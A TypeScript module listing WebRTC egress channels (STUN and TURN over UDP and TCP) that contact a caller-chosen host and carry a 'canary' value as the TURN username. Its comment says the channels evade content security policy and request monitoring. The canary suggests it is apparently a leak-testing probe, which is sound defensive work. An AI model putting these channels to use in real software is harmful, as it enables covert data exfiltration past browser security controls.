import type { Target } from './target.ts';

async function gather(server: RTCIceServer): Promise<void> {
  const peer = new RTCPeerConnection({ iceServers: [server] });
  peer.createDataChannel('x');
  await peer.setLocalDescription(await peer.createOffer());
}

/** Ways out through WebRTC, which no content policy and no request event sees. */
export const PEERS = {
  stun: ({ host, port }: Target): unknown => gather({ urls: `stun:${host}:${port}` }),
  'turn-udp': ({ host, port, canary }: Target): unknown =>
    gather({ urls: `turn:${host}:${port}?transport=udp`, username: canary, credential: 'x' }),
  'turn-tcp': ({ host, port, canary }: Target): unknown =>
    gather({ urls: `turn:${host}:${port}?transport=tcp`, username: canary, credential: 'x' }),
} as const satisfies Readonly<Record<string, (to: Target) => unknown>>;
